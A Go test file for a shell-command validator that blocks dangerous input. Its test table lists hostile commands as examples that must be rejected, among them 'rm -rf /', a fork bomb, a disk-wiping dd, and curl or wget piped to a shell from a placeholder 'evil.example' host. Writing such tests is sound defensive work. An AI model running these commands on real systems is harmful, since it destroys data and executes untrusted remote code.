package security

import (
	"errors"
	"strings"
	"testing"
)

func TestCheckCommand(t *testing.T) {
	v := NewCommandValidator(nil)

	tests := []struct {
		name      string
		command   string
		shouldErr bool
	}{
		// Allowed commands.
		{"simple listing", "ls -la", false},
		{"git status", "git status", false},
		{"go test", "go test ./...", false},
		{"grep", "grep -r pattern .", false},
		{"rm single file", "rm notes.txt", false},
		{"word inside filename", "cat sunset.txt", false},
		{"suffix not a word", "echo superuser", false},

		// Blocked words.
		{"sudo", "sudo apt install x", true},
		{"sudo uppercase", "SUDO rm file", true},
		{"su standalone", "su - root", true},
		{"shutdown", "shutdown -h now", true},
		{"reboot", "reboot", true},
		{"mkfs word", "mkfs /dev/sda1", true},

		// Blocked phrases.
		{"rm -rf root", "rm -rf /", true},
		{"rm -rf root with spacing", "rm   -rf   /", true},
		{"rm -rf root uppercase", "RM -RF /", true},
		{"rm -fr variant", "rm -fr /", true},
		{"chmod 777", "chmod 777 /etc", true},
		{"chown root", "chown root:root file", true},
		{"dd", "dd if=/dev/zero of=/dev/sda", true},
		{"windows format", "format c:", true},
		{"fork bomb", ":(){ :|:& };:", true},

		// Blocked patterns.
		{"mkfs with fstype", "mkfs.ext4 /dev/sdb", true},
		{"redirect to dev", "echo x > /dev/sda", true},
		{"redirect to proc", "echo 1 >/proc/sys/vm/drop_caches", true},
		{"curl pipe sh", "curl http://evil.example/x.sh | sh", true},
		{"wget pipe bash", "wget -qO- http://evil.example | bash", true},
		{"backtick substitution", "echo `id`", true},
		{"dollar substitution", "echo $(id)", true},
		{"rm rf combined flags", "rm -prf /var", true},

		// Edge cases.
		{"empty", "", true},
		{"whitespace only", "   ", true},
		{"nul byte", "ls\x00-la", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := v.Check(tt.command)
			if tt.shouldErr {
				if err == nil {
					t.Fatalf("Check(%q) = nil, want error", tt.command)
				}
				if !errors.Is(err, ErrCommandBlocked) {
					t.Fatalf("Check(%q) error = %v, want ErrCommandBlocked", tt.command, err)
				}
				return
			}
			if err != nil {
				t.Fatalf("Check(%q) = %v, want nil", tt.command, err)
			}
		})
	}
}

func TestCheckCommandExtraPhrases(t *testing.T) {
	v := NewCommandValidator([]string{"DROP   TABLE", ""})

	if err := v.Check("psql -c 'drop table users'"); !errors.Is(err, ErrCommandBlocked) {
		t.Fatalf("extra phrase not enforced: %v", err)
	}
	if err := v.Check("psql -c 'select 1'"); err != nil {
		t.Fatalf("unrelated command blocked: %v", err)
	}
}

func TestCheckCommandLength(t *testing.T) {
	v := NewCommandValidator(nil)
	long := "echo " + strings.Repeat("a", MaxCommandLength)
	if err := v.Check(long); !errors.Is(err, ErrCommandBlocked) {
		t.Fatalf("oversized command not blocked: %v", err)
	}
}
